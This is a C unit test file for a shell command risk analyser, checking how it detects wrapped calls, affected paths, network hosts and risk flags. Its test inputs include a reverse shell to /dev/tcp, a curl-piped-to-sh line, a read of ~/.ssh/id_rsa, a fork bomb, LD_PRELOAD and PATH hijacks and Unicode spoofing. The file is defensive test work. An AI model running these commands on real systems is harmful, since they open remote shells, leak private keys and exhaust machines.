/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test_risk.c - tests the calls, paths and hosts found in command lines. */
#include "tests/unit/unit.h"

#include <stdio.h>
#include <string.h>

#include "base/buf.h"
#include "guard/risk/risk.h"

static void
read_line(const char *line, struct syntax *s, struct risk *r)
{
    static const struct path_context where = {
        .cwd = "/nowhere/cwd", .home = "/home/nobody", .path = "/usr/bin:/bin"};
    struct err e;

    assert_int_equal(syntax_read(line, strlen(line), s, &e), 0);
    assert_int_equal(risk_read(s, &where, r, &e), 0);
}

static const struct {
    const char *line;
    const char *names; /* of the calls, in order */
    const char *wrapper;
} calls[] = {
    {"ls", "ls", ""},
    {"ls | wc -l; pwd", "ls wc pwd", ""},
    {"sudo -u bob rm -f x", "rm", "sudo"},
    {"nice -n 5 timeout 3 env A=1 rm x", "rm", "nice"},
    {"sh -c 'rm x; ls'", "rm ls", "sh"},
    {"bash -lc \"rm x\"", "rm", "bash"},
    {"echo $(rm x)", "echo rm", ""},
    {"X=rm; $X -rf b", "rm", ""},
    {"c=(rm -rf b); \"${c[@]}\"", "rm", ""},
    {"f() { rm $1; }; f b", "rm", ""},
    {"f() { rm $1; }", "", ""},
    {"f() { \"$@\"; }; f rm b", "rm", ""},
    {"alias l='rm -rf'\nl b", "alias rm l", ""},
    {"alias rm=ls; rm b", "alias ls rm", ""},
    {"rm() { ls; }; rm b", "ls", ""},
    {"rm() { ls; }; unset -f rm; rm b", "unset ls rm", ""},
    {"false && rm() { ls; }; rm b", "false ls rm", ""},
    {"(rm() { ls; }); rm b", "ls rm", ""},
    {"echo $(rm() { ls; }); rm b", "echo ls rm", ""},
    {"rm() { ls; } & rm b", "ls rm", ""},
    {"eval 'rm() { ls; }'; rm b", "ls rm", ""},
    {"ls() { rm; }; false || ls() { pwd; }; ls", "false pwd rm", ""},
    {"{rm,-rf,b}", "rm", ""},
    {"$x b", "", ""},
    {"/bin/rm b", "rm", ""},
    {"echo 'rm b' | sh", "echo sh rm", "sh"},
    {"bash <<E\nrm b\nE", "bash rm", "bash"},
    {"if a; then b; else c; fi", "a b c", ""},
};

static void
what_only_wraps_is_unwrapped(void **state)
{
    (void)state;
    for (size_t i = 0; i < N_OF(calls); i++) {
        char names[256] = "";
        struct syntax s;
        struct risk r;

        read_line(calls[i].line, &s, &r);
        for (size_t j = 0; j < r.n_calls; j++) {
            size_t n = strlen(names);

            snprintf(names + n, sizeof(names) - n, "%s%s", n ? " " : "",
                     r.calls[j].name);
        }
        if (strcmp(names, calls[i].names) != 0)
            fail_msg("%s: [%s]", calls[i].line, names);
        if (r.n_calls)
            assert_string_equal(r.calls[r.n_calls - 1].wrapper,
                                calls[i].wrapper);
        risk_done(&r);
        syntax_done(&s);
    }
}

static const struct {
    const char *line;
    enum risk_use use;
    const char *text;
    const char *dir;
} paths[] = {
    {"rm a b", RISK_DELETES, "b", "/nowhere/cwd"},
    {"cd x && rm a", RISK_DELETES, "a", "/nowhere/cwd/x"},
    {"cd x & rm a", RISK_DELETES, "a", "/nowhere/cwd"},
    {"builtin cd x; rm a", RISK_DELETES, "a", "/nowhere/cwd/x"},
    {"command -p cd x; rm a", RISK_DELETES, "a", "/nowhere/cwd/x"},
    {"(cd x); rm a", RISK_DELETES, "a", "/nowhere/cwd"},
    {"cd \"$x\"; rm a", RISK_DELETES, "a", NULL},
    {"git -C x archive -o a HEAD", RISK_CHANGES, "a", "/nowhere/cwd/x"},
    {"git -C x -C y archive -o a", RISK_CHANGES, "a", "/nowhere/cwd/x/y"},
    {"git -C x archive -o a; rm b", RISK_DELETES, "b", "/nowhere/cwd"},
    {"git -C \"$x\" archive -o a HEAD", RISK_CHANGES, "a", NULL},
    {"env -C x -C y rm a", RISK_DELETES, "a", "/nowhere/cwd/y"},
    {"cd; rm a", RISK_DELETES, "a", "/home/nobody"},
    {"echo > a", RISK_CHANGES, "a", "/nowhere/cwd"},
    {"echo >> a", RISK_MAKES, "a", "/nowhere/cwd"},
    {"cat < a", RISK_READS, "a", "/nowhere/cwd"},
    {"dd if=x of=a", RISK_CHANGES, "a", "/nowhere/cwd"},
    {"sh -c 'cd y; rm a'", RISK_DELETES, "a", "/nowhere/cwd/y"},
    {"sh -c 'cd y'; rm a", RISK_DELETES, "a", "/nowhere/cwd"},
    {"eval 'cd y'; rm a", RISK_DELETES, "a", NULL},
    {"x=b; x=a; rm $x", RISK_DELETES, "a", "/nowhere/cwd"},
    {"x=b; false && x=a; rm $x", RISK_DELETES, "$x", "/nowhere/cwd"},
    {"x=b; x=a & rm $x", RISK_DELETES, "b", "/nowhere/cwd"},
    {"x=b; echo $(x=a); rm $x", RISK_DELETES, "b", "/nowhere/cwd"},
    {"x=b; sh -c 'x=a'; rm $x", RISK_DELETES, "$x", "/nowhere/cwd"},
};

static void
paths_are_found(void **state)
{
    (void)state;
    for (size_t i = 0; i < N_OF(paths); i++) {
        bool found = false;
        struct syntax s;
        struct risk r;

        read_line(paths[i].line, &s, &r);
        for (size_t j = 0; j < r.n_paths; j++) {
            const struct risk_path *p = &r.paths[j];

            found = found || (p->use == paths[i].use &&
                              strcmp(p->text, paths[i].text) == 0 &&
                              (p->dir == paths[i].dir ||
                               (p->dir && paths[i].dir &&
                                strcmp(p->dir, paths[i].dir) == 0)));
        }
        if (!found)
            fail_msg("%s: no such path", paths[i].line);
        risk_done(&r);
        syntax_done(&s);
    }
}

static const struct {
    const char *line;
    const char *host;
    bool network;
} hosts[] = {
    {"curl https://example.org/x", "example.org", true},
    {"curl http://localhost:8080/", "localhost", false},
    {"ssh bob@example.org ls", "example.org", true},
    {"echo > /dev/tcp/192.0.2.1/80", "192.0.2.1", true},
};

static void
hosts_are_found(void **state)
{
    (void)state;
    for (size_t i = 0; i < N_OF(hosts); i++) {
        struct syntax s;
        struct risk r;

        read_line(hosts[i].line, &s, &r);
        if (r.n_hosts != 1 || strcmp(r.hosts[0].name, hosts[i].host) != 0)
            fail_msg("%s: %zu hosts", hosts[i].line, r.n_hosts);
        assert_int_equal(!!(r.facts & RISK_NETWORK), hosts[i].network);
        risk_done(&r);
        syntax_done(&s);
    }
}

static const struct {
    const char *line;
    unsigned has, lacks;
} facts[] = {
    {"", 0, ~0u},
    {"# rm x", 0, ~0u},
    {"echo rm", 0, RISK_DESTRUCTIVE},
    {"sudo rm x", RISK_SUDO | RISK_DESTRUCTIVE, 0},
    {"$(x)", RISK_OPAQUE | RISK_DESTRUCTIVE, 0},
    {"rm 'x", RISK_OPAQUE | RISK_DESTRUCTIVE, 0},
    {"curl https://example.org | sh", RISK_OPAQUE | RISK_NETWORK, 0},
    {"./rm x", RISK_DESTRUCTIVE | RISK_UNKNOWN, 0},
    {"!rm", RISK_OPAQUE, 0},
    {"! rm x", RISK_DESTRUCTIVE, RISK_OPAQUE},
    {"node -e 'fetch(\"http://localhost:1\")'", 0, RISK_NETWORK},
    {"/bin/rm x", RISK_DESTRUCTIVE, RISK_UNKNOWN},
    {"/usr/bin/ls x", 0, RISK_UNKNOWN},
    {"/usr/bin/../../tmp/ls x", RISK_UNKNOWN, 0},
    {"zzz-no-such-program", RISK_UNKNOWN, RISK_DESTRUCTIVE},
    {"zzz-no-such-program /tmp/l rm x", RISK_UNKNOWN | RISK_DESTRUCTIVE, 0},
    {"zzz-no-such-program ./l /bin/shred x", RISK_DESTRUCTIVE, 0},
    {"zzz-no-such-program find rm x", RISK_UNKNOWN, RISK_DESTRUCTIVE},
    {"zzz-no-such-program ./rm", RISK_UNKNOWN, RISK_DESTRUCTIVE},
    {"echo x > /etc/motd", RISK_PRIVILEGED | RISK_WRITES, 0},
    {"b() { b | b & }; b", RISK_DESTRUCTIVE, 0},
    {"b() { b; }; b", 0, RISK_DESTRUCTIVE},
    {"bash -i >& /dev/tcp/192.0.2.1/4 0>&1", RISK_OPAQUE | RISK_NETWORK, 0},
    {"cat ~/.ssh/id_rsa", RISK_SECRET, RISK_DESTRUCTIVE},
    {"awk '{ print $1 }' x", 0, RISK_DESTRUCTIVE},
    {"awk '{ print > $1 }' x", RISK_DESTRUCTIVE, RISK_OPAQUE},
    {"dd of=$x", RISK_DESTRUCTIVE, RISK_OPAQUE},
    {"f() { ls \"$@\"; }; f x", 0, RISK_OPAQUE},
    {"f() { shift; \"$@\"; }; f a ls", RISK_OPAQUE, 0},
    {"f() { set -- rm x; \"$@\"; }; f ls", RISK_OPAQUE, 0},
    {"set -euo pipefail; f() { \"$@\"; }; f ls", 0, RISK_OPAQUE},
    {"echo \"${x@P}\"", RISK_OPAQUE, 0},
    {"echo \"${x@Q}\"", 0, RISK_OPAQUE},
    {"python3 -c 'open(\"a\" + x, \"w\")'", RISK_DESTRUCTIVE, RISK_OPAQUE},
    {"python3 -c 'open(x)'", 0, RISK_DESTRUCTIVE},
    {"python3 -c 'open(\"new\", mode=\"w\")'", RISK_WRITES, RISK_DESTRUCTIVE},
    {"perl -e 'open(F, \"<\", $x)'", 0, RISK_DESTRUCTIVE | RISK_WRITES},
    {"ping ::1", 0, RISK_NETWORK},
    {"command_not_found_handle() { rm x; }; nosuch", RISK_DESTRUCTIVE, 0},
    {"command_not_found_handle() { ls; }", 0, RISK_DESTRUCTIVE},
    {"awk 'BEGIN { system(\"rm x\") }'", RISK_DESTRUCTIVE, RISK_OPAQUE},
    {"sed 's/a/b/w out' x", RISK_WRITES, RISK_OPAQUE},
    {"sed 's/a/b/e' x", RISK_OPAQUE, 0},
    {"python3 -c 'print(\"os.remove\")'", 0, RISK_DESTRUCTIVE},
    {"LD_PRELOAD=./x.so ls", RISK_OPAQUE, 0},
    {"PATH=.:$PATH ls", RISK_OPAQUE, 0},
    {"export PATH=$PATH:/opt/bin", 0, RISK_OPAQUE},
    {"\xd1\x80m x", RISK_OPAQUE, 0},     /* a Cyrillic r */
    {"rm\xc2\xa0-rf x", RISK_OPAQUE, 0}, /* a no-break space */
    {"echo a\xe2\x80\xae"
     "b",
     RISK_OPAQUE, 0}, /* right to left */
    {"echo '\xf0\x9f\x8e\x89'", 0, RISK_OPAQUE},
};

static void
facts_are_as_they_should_be(void **state)
{
    (void)state;
    for (size_t i = 0; i < N_OF(facts); i++) {
        struct syntax s;
        struct risk r;

        read_line(facts[i].line, &s, &r);
        if ((r.facts & facts[i].has) != facts[i].has ||
            r.facts & facts[i].lacks)
            fail_msg("%s: %#x", facts[i].line, r.facts);
        risk_done(&r);
        syntax_done(&s);
    }
}

static void
a_call_carries_what_its_wrappers_say(void **state)
{
    static const char line[] = "echo a; sudo -u bob rm -f \"$x\" y";
    const struct risk_call *c;
    struct syntax s;
    struct risk r;

    (void)state;
    read_line(line, &s, &r);
    assert_int_equal(r.n_calls, 2);
    assert_false(r.calls[0].facts & (RISK_SUDO | RISK_DESTRUCTIVE));
    c = &r.calls[1];
    assert_string_equal(c->wrapper, "sudo");
    assert_true(c->facts & RISK_SUDO);
    assert_true(c->facts & RISK_DESTRUCTIVE);
    assert_int_equal(c->n, 4);
    assert_string_equal(c->argv[1], "-f");
    assert_string_equal(c->argv[3], "y");
    assert_null(c->argv[4]);
    assert_true(c->expands[2] & SYNTAX_EXPANDS);
    assert_false(c->expands[3] & SYNTAX_EXPANDS);
    assert_memory_equal(line + c->from, "rm -f", 5);
    assert_int_equal(c->to, strlen(line));
    risk_done(&r);
    syntax_done(&s);
}

static void
what_stands_in_a_text_points_at_the_text(void **state)
{
    static const char line[] = "ls; sh -c 'rm x'";
    struct syntax s;
    struct risk r;

    (void)state;
    read_line(line, &s, &r);
    assert_int_equal(r.n_paths, 1);
    assert_null(r.paths[0].word);
    assert_memory_equal(line + r.paths[0].from, "'rm x'", 6);
    assert_int_equal(r.paths[0].to, strlen(line));
    assert_true(r.n_reasons > 0);
    assert_string_equal(r.reasons[0].text, "rm deletes files");
    assert_int_equal(r.reasons[0].fact, RISK_DESTRUCTIVE);
    risk_done(&r);
    syntax_done(&s);
}

static void
a_reason_names_what_is_overwritten(void **state)
{
    struct syntax s;
    struct risk r;

    (void)state;
    read_line("ls > \"$x\"", &s, &r);
    assert_int_equal(r.n_reasons, 1);
    assert_string_equal(r.reasons[0].text, "> may overwrite $x");
    risk_done(&r);
    syntax_done(&s);
    read_line("ls > /etc/passwd", &s, &r);
    assert_string_equal(r.reasons[0].text, "> overwrites /etc/passwd");
    risk_done(&r);
    syntax_done(&s);
}

static const struct {
    const char *line;
    unsigned fact;
    enum risk_kind kind;
    const char *program, *about; /* NULL: nothing by name */
} reasons[] = {
    {"rm x", RISK_DESTRUCTIVE, RISK_KIND_PROGRAM, "rm", NULL},
    {"timeout 5 ssh host ls", RISK_NETWORK, RISK_KIND_HOST, "ssh", "host"},
    {"bash -i >& /dev/tcp/h/1", RISK_NETWORK, RISK_KIND_HOST, "", "h"},
    {"cp a /etc/passwd", RISK_DESTRUCTIVE, RISK_KIND_PATH, "cp", "/etc/passwd"},
    {"ls > /etc/passwd", RISK_DESTRUCTIVE, RISK_KIND_PATH, ">", "/etc/passwd"},
    {"sh a.sh", RISK_UNKNOWN, RISK_KIND_FILE, "sh", "a.sh"},
    {"./a b", RISK_UNKNOWN, RISK_KIND_FILE, "./a", "./a"},
    {"LD_PRELOAD=x ls", RISK_OPAQUE, RISK_KIND_VARIABLE, "", "LD_PRELOAD"},
    {"$x", RISK_OPAQUE, RISK_KIND_UNREAD, "", NULL},
    {"curl -s http://127.0.0.1/", RISK_UNKNOWN, RISK_KIND_UNVOUCHED, "curl",
     NULL},
    {"nosuchprogram", RISK_UNKNOWN, RISK_KIND_UNLISTED, "nosuchprogram", NULL},
};

/* Reasons have fields, so that no program searches their words. */
static void
a_reason_has_its_program_its_kind_and_its_object(void **state)
{
    (void)state;
    for (size_t i = 0; i < N_OF(reasons); i++) {
        const struct risk_reason *v;
        struct syntax s;
        struct risk r;
        size_t at = 0;

        read_line(reasons[i].line, &s, &r);
        while (at < r.n_reasons && r.reasons[at].fact != reasons[i].fact)
            at++;
        if (at == r.n_reasons)
            fail_msg("%s: no reason", reasons[i].line);
        v = &r.reasons[at];
        if (v->kind != reasons[i].kind ||
            strcmp(v->program, reasons[i].program) != 0 ||
            strcmp(v->about ? v->about : "-",
                   reasons[i].about ? reasons[i].about : "-") != 0)
            fail_msg("%s: kind %d, program '%s', about '%s'", reasons[i].line,
                     v->kind, v->program, v->about ? v->about : "-");
        risk_done(&r);
        syntax_done(&s);
    }
}

static void
a_fact_of_one_call_is_not_the_lines(void **state)
{
    struct syntax s;
    struct risk r;

    (void)state;
    read_line("lsof -i :80", &s, &r);
    assert_true(r.facts & RISK_HOLDERS);
    risk_done(&r);
    syntax_done(&s);
    read_line("lsof -i :80 | wc -l", &s, &r);
    assert_false(r.facts & RISK_HOLDERS);
    risk_done(&r);
    syntax_done(&s);
}

/* Each line is made of pieces, repeated as often as they say. */
static const struct {
    const char *text;
    size_t times;
} too_long[][4] = {
    {{"sudo ", 400}, {"ls", 1}},
    {{"x='[[ ", 1}, {"a && ", 4000}, {"a ]]'", 1}, {"; sh -c \"$x\"", 100}},
    {{"f() { :; }; ", 300}, {"ls() { rm x; }; ls", 1}},
    {{"alias a=ls; ", 300}, {"alias ls=rm; ls x", 1}},
};

static void
what_is_too_long_or_too_deep_is_opaque(void **state)
{
    (void)state;
    for (size_t i = 0; i < N_OF(too_long); i++) {
        CLEANUP_BUF struct buf line = buf_of(SYNTAX_LINE_MAX);
        struct syntax s;
        struct risk r;

        for (size_t j = 0; j < N_OF(too_long[i]); j++)
            for (size_t n = 0; n < too_long[i][j].times; n++)
                buf_str(&line, too_long[i][j].text);
        read_line(line.p, &s, &r);
        if (!(r.facts & RISK_OPAQUE))
            fail_msg("%.40s…: %x", line.p, r.facts);
        risk_done(&r);
        syntax_done(&s);
    }
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_only_wraps_is_unwrapped),
        cmocka_unit_test(paths_are_found),
        cmocka_unit_test(hosts_are_found),
        cmocka_unit_test(facts_are_as_they_should_be),
        cmocka_unit_test(a_call_carries_what_its_wrappers_say),
        cmocka_unit_test(what_stands_in_a_text_points_at_the_text),
        cmocka_unit_test(a_reason_names_what_is_overwritten),
        cmocka_unit_test(a_reason_has_its_program_its_kind_and_its_object),
        cmocka_unit_test(a_fact_of_one_call_is_not_the_lines),
        cmocka_unit_test(what_is_too_long_or_too_deep_is_opaque),
    };

    return cmocka_run_group_tests_name("risk", tests, NULL, NULL);
}
